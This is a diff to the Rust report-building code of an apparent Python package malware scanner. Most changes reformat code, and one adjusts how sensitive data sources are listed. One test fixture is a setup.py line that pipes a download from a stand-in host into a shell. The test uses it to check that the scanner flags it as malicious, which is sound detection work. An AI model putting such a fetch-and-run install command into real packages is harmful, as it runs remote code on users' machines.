@@ -2,7 +2,7 @@
 //! `file:line`; nothing is boilerplate that would read the same for any file.
 
 use wheelhound_analysis::{Category, FileAnalysis, FileRole, Finding};
-use wheelhound_scoring::{level, Contribution, FileScores};
+use wheelhound_scoring::{Contribution, FileScores, level};
 
 use crate::{Evidence, FileReport, ScoreMove};
 
@@ -56,7 +56,9 @@ fn evidence(f: &Finding) -> Evidence {
         column: f.column,
         snippet: f.snippet.clone(),
         message: f.message.clone(),
-        context: format!("{:?}", f.context).to_lowercase().replace("testordocs", "test_or_docs"),
+        context: format!("{:?}", f.context)
+            .to_lowercase()
+            .replace("testordocs", "test_or_docs"),
     }
 }
 
@@ -92,16 +94,35 @@ fn module_name(path: &str) -> String {
 fn purpose(input: &FileInput, findings: &[&Finding]) -> String {
     let analysis = input.analysis;
     let facts = &analysis.facts;
-    let package = input.package_name.map(|n| format!(" of the package {n}")).unwrap_or_default();
+    let package = input
+        .package_name
+        .map(|n| format!(" of the package {n}"))
+        .unwrap_or_default();
     let mut text = match analysis.role {
         FileRole::Setup => {
-            let declared = facts.setup_name.as_deref().map(|n| format!(" declaring `{n}`")).unwrap_or_default();
-            let what = if facts.calls_setup { "calls setup() to build and install the package" } else { "does not call setup()" };
+            let declared = facts
+                .setup_name
+                .as_deref()
+                .map(|n| format!(" declaring `{n}`"))
+                .unwrap_or_default();
+            let what = if facts.calls_setup {
+                "calls setup() to build and install the package"
+            } else {
+                "does not call setup()"
+            };
             format!("setuptools build script{package}{declared}; it {what}")
         }
-        FileRole::Pth => format!("path configuration file{package}, processed by Python's site module at every start-up"),
-        FileRole::PackageInit => format!("initialiser of the Python package `{}`{package}, run on import", module_name(&analysis.path)),
-        FileRole::TestOrDocs => format!("test, documentation or example code `{}`{package}", module_name(&analysis.path)),
+        FileRole::Pth => format!(
+            "path configuration file{package}, processed by Python's site module at every start-up"
+        ),
+        FileRole::PackageInit => format!(
+            "initialiser of the Python package `{}`{package}, run on import",
+            module_name(&analysis.path)
+        ),
+        FileRole::TestOrDocs => format!(
+            "test, documentation or example code `{}`{package}",
+            module_name(&analysis.path)
+        ),
         FileRole::Module => format!("Python module `{}`{package}", module_name(&analysis.path)),
     };
     if let Some(doc) = &facts.docstring {
@@ -113,14 +134,24 @@ fn purpose(input: &FileInput, findings: &[&Finding]) -> String {
     if !imports.is_empty() {
         text.push_str(&format!(". It imports {}", imports.join(", ")));
         if facts.imports.len() > imports.len() {
-            text.push_str(&format!(" and {} more", facts.imports.len() - imports.len()));
+            text.push_str(&format!(
+                " and {} more",
+                facts.imports.len() - imports.len()
+            ));
         }
     }
     if facts.functions + facts.classes > 0 {
-        text.push_str(&format!(" and defines {} function(s) and {} class(es)", facts.functions, facts.classes));
+        text.push_str(&format!(
+            " and defines {} function(s) and {} class(es)",
+            facts.functions, facts.classes
+        ));
     }
     if let Some(top) = findings.iter().find(|f| f.severity >= 0.4) {
-        text.push_str(&format!(". What it evidently does: {} ({})", top.message, top.location()));
+        text.push_str(&format!(
+            ". What it evidently does: {} ({})",
+            top.message,
+            top.location()
+        ));
     }
     text.push('.');
     text
@@ -138,10 +169,25 @@ fn list_findings(findings: &[&Finding], filter: impl Fn(&Finding) -> bool) -> Ve
 }
 
 fn sources(analysis: &FileAnalysis, findings: &[&Finding]) -> String {
-    let mut items = list_findings(findings, |f| f.category == Category::Source);
-    for source in analysis.sources.iter().take(MAX_LISTED) {
+    let mut items: Vec<String> = list_findings(findings, |f| f.category == Category::Source)
+        .into_iter()
+        .map(|item| {
+            item.strip_prefix("reads ")
+                .map(str::to_owned)
+                .unwrap_or(item)
+        })
+        .collect();
+    // Ordinary file contents are tracked only to recognise harmless idioms; they are not sensitive.
+    let sensitive = analysis
+        .sources
+        .iter()
+        .filter(|s| s.kind != wheelhound_analysis::SourceKind::FileContent);
+    for source in sensitive.take(MAX_LISTED) {
         let item = format!("{} ({})", source.label, source.location);
-        if !items.iter().any(|i| i.contains(&source.location) && i.contains(&source.label)) {
+        if !items
+            .iter()
+            .any(|i| i.contains(&source.location) && i.contains(&source.label))
+        {
             items.push(item);
         }
     }
@@ -157,8 +203,16 @@ fn sinks(findings: &[&Finding]) -> String {
     if items.is_empty() {
         "No sink: no process spawn, network call, exec/eval of dynamic code, or executable/autostart file write was found.".to_owned()
     } else {
-        let more = findings.iter().filter(|f| f.category == Category::Sink).count().saturating_sub(items.len());
-        let tail = if more > 0 { format!("; and {more} more") } else { String::new() };
+        let more = findings
+            .iter()
+            .filter(|f| f.category == Category::Sink)
+            .count()
+            .saturating_sub(items.len());
+        let tail = if more > 0 {
+            format!("; and {more} more")
+        } else {
+            String::new()
+        };
         format!("{}{tail}.", items.join("; "))
     }
 }
@@ -185,10 +239,16 @@ fn flows(findings: &[&Finding]) -> String {
 fn anomalies(analysis: &FileAnalysis, findings: &[&Finding]) -> String {
     let mut items = list_findings(findings, |f| f.category == Category::Anomaly);
     for layer in &analysis.layers {
-        items.push(format!("decoded payload analysed as {} ({}, line {})", layer.name, layer.how, layer.line));
+        items.push(format!(
+            "decoded payload analysed as {} ({}, line {})",
+            layer.name, layer.how, layer.line
+        ));
     }
     if analysis.syntax_errors > 0 {
-        items.push(format!("{} syntax error(s) recovered from", analysis.syntax_errors));
+        items.push(format!(
+            "{} syntax error(s) recovered from",
+            analysis.syntax_errors
+        ));
     }
     if items.is_empty() {
         "None: no install hook, obfuscation, encoded payload, computed import or suspicious endpoint was found.".to_owned()
@@ -208,16 +268,40 @@ fn walkthrough(analysis: &FileAnalysis, scores: &FileScores) -> String {
             wheelhound_analysis::rules::ALL.len()
         ));
     } else {
-        let notable: Vec<&&Finding> = ordered.iter().filter(|f| f.severity >= 0.05).take(12).collect();
-        let shown: Vec<&&Finding> = if notable.is_empty() { ordered.iter().take(6).collect() } else { notable };
+        let notable: Vec<&&Finding> = ordered
+            .iter()
+            .filter(|f| f.severity >= 0.05)
+            .take(12)
+            .collect();
+        let shown: Vec<&&Finding> = if notable.is_empty() {
+            ordered.iter().take(6).collect()
+        } else {
+            notable
+        };
         let steps: Vec<String> = shown
             .iter()
-            .map(|f| format!("{}: {} [{} {}, {}, weight {:.2}]", f.location(), f.message, f.rule, f.name, f.context.phrase(), f.severity))
+            .map(|f| {
+                format!(
+                    "{}: {} [{} {}, {}, weight {:.2}]",
+                    f.location(),
+                    f.message,
+                    f.rule,
+                    f.name,
+                    f.context.phrase(),
+                    f.severity
+                )
+            })
             .collect();
-        out.push_str(&format!("Analysed {} line(s). In source order: {}.", analysis.lines, steps.join("; ")));
+        out.push_str(&format!(
+            "Analysed {} line(s). In source order: {}.",
+            analysis.lines,
+            steps.join("; ")
+        ));
         let hidden = ordered.len() - shown.len();
         if hidden > 0 {
-            out.push_str(&format!(" {hidden} lower-weight finding(s) are listed in the evidence."));
+            out.push_str(&format!(
+                " {hidden} lower-weight finding(s) are listed in the evidence."
+            ));
         }
     }
     let malware_moves: Vec<String> = scores
@@ -228,7 +312,11 @@ fn walkthrough(analysis: &FileAnalysis, scores: &FileScores) -> String {
         .map(|c| format!("{} {:.2} at {}", c.rule, c.weight, c.location))
         .collect();
     if !malware_moves.is_empty() {
-        out.push_str(&format!(" The malware score {:.2} rests on {}.", scores.malware, malware_moves.join(", ")));
+        out.push_str(&format!(
+            " The malware score {:.2} rests on {}.",
+            scores.malware,
+            malware_moves.join(", ")
+        ));
     }
     out
 }
@@ -244,7 +332,10 @@ fn conclusion(analysis: &FileAnalysis, scores: &FileScores) -> String {
         .collect();
     let capitalised = {
         let mut chars = verdict.chars();
-        chars.next().map(|c| c.to_uppercase().collect::<String>() + chars.as_str()).unwrap_or_default()
+        chars
+            .next()
+            .map(|c| c.to_uppercase().collect::<String>() + chars.as_str())
+            .unwrap_or_default()
     };
     if decisive.is_empty() {
         let capabilities: Vec<&str> = {
@@ -254,7 +345,10 @@ fn conclusion(analysis: &FileAnalysis, scores: &FileScores) -> String {
             names
         };
         if capabilities.is_empty() {
-            format!("{capitalised} (malware {:.2}): no detector found secret or system-data reads, dynamic code execution, process starts, network use, install hooks or hidden content in this file.", scores.malware)
+            format!(
+                "{capitalised} (malware {:.2}): no detector found secret or system-data reads, dynamic code execution, process starts, network use, install hooks or hidden content in this file.",
+                scores.malware
+            )
         } else {
             format!(
                 "{capitalised} (malware {:.2}): the file uses ordinary capabilities ({}) in ways that legitimate code does; nothing runs them with hidden or stolen data at install or import time.",
@@ -263,7 +357,11 @@ fn conclusion(analysis: &FileAnalysis, scores: &FileScores) -> String {
             )
         }
     } else {
-        format!("{capitalised} (malware {:.2}): {}.", scores.malware, decisive.join("; and "))
+        format!(
+            "{capitalised} (malware {:.2}): {}.",
+            scores.malware,
+            decisive.join("; and ")
+        )
     }
 }
 
@@ -271,17 +369,25 @@ fn conclusion(analysis: &FileAnalysis, scores: &FileScores) -> String {
 mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
     use super::*;
-    use wheelhound_analysis::{analyze_python, AnalysisOptions};
+    use wheelhound_analysis::{AnalysisOptions, analyze_python};
 
     fn report(path: &str, code: &str) -> FileReport {
         let analysis = analyze_python(path, code.as_bytes(), &AnalysisOptions::default());
         let scores = wheelhound_scoring::score_file(&analysis);
-        build_file_report(&FileInput { analysis: &analysis, scores: &scores, package_name: Some("demo"), package_summary: None })
+        build_file_report(&FileInput {
+            analysis: &analysis,
+            scores: &scores,
+            package_name: Some("demo"),
+            package_summary: None,
+        })
     }
 
     #[test]
     fn malicious_report_cites_lines() {
-        let r = report("demo-1/setup.py", "import os\nos.system('curl http://x.invalid/a | sh')\n");
+        let r = report(
+            "demo-1/setup.py",
+            "import os\nos.system('curl http://x.invalid/a | sh')\n",
+        );
         assert!(r.malware >= 0.7);
         assert!(r.conclusion.starts_with("Malicious"), "{}", r.conclusion);
         assert!(r.sinks.contains("demo-1/setup.py:2"), "{}", r.sinks);
@@ -291,7 +397,10 @@ mod tests {
 
     #[test]
     fn clean_report_says_why() {
-        let r = report("demo-1/demo/core.py", "\"\"\"Adds numbers.\"\"\"\ndef add(a, b):\n    return a + b\n");
+        let r = report(
+            "demo-1/demo/core.py",
+            "\"\"\"Adds numbers.\"\"\"\ndef add(a, b):\n    return a + b\n",
+        );
         assert_eq!(r.malware, 0.0);
         assert!(r.purpose.contains("Adds numbers"));
         assert!(r.conclusion.starts_with("Benign"));
@@ -302,7 +411,12 @@ mod tests {
     fn socketai_view_has_reference_fields() {
         let r = report("demo-1/demo/core.py", "x = 1\n");
         let json = serde_json::to_value(r.socketai()).unwrap();
-        let keys: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
+        let keys: Vec<&str> = json
+            .as_object()
+            .unwrap()
+            .keys()
+            .map(String::as_str)
+            .collect();
         assert_eq!(keys.len(), 12);
         assert!(keys.contains(&"securityRisk"));
     }
